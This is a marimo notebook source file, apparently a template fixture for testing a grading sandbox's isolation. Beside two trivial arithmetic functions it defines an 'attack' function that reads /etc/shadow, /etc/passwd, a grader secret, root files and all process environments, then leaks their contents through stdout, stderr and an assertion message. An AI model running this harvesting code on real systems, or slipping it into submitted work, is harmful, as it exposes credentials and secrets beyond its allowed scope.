import marimo

__generated_with = "0.25.2"
app = marimo.App()


@app.function
def add(a, b):
    return a + b


@app.function
def mul(a, b):
    return a * b


@app.function
def attack(n):
    """Reads what a node must never show a job and prints everything it gets, on
    stdout, stderr and in its test's message."""
    import glob
    import os
    import sys
    paths = [@@PATHS@@, "/etc/shadow", "/etc/passwd", "/etc/gradeq/secret",
             "/proc/1/environ", "/proc/self/environ", "/root/.bashrc"]
    paths += glob.glob("/root/*") + glob.glob("/root/.*") + glob.glob("/proc/*/environ")
    paths += glob.glob("/proc/*/cmdline")
    got = []
    for p in paths:
        try:
            with open(p, "rb") as f:
                data = f.read(65536)
        except OSError as e:
            print("read", p, "->", type(e).__name__, file=sys.stderr)
            continue
        got.append(f"{p}: {data!r}")
        print("READ", p, data)
        sys.stderr.write(f"READ {p} {data!r}\n")
    for d in ("/", "/root", "/home", "/etc", "/proc/1/root", "/proc/1/cwd", "/var/lib"):
        try:
            print("LIST", d, os.listdir(d))
        except OSError as e:
            print("list", d, "->", type(e).__name__)
    raise AssertionError(" | ".join(got)[:450])


if __name__ == "__main__":
    app.run()
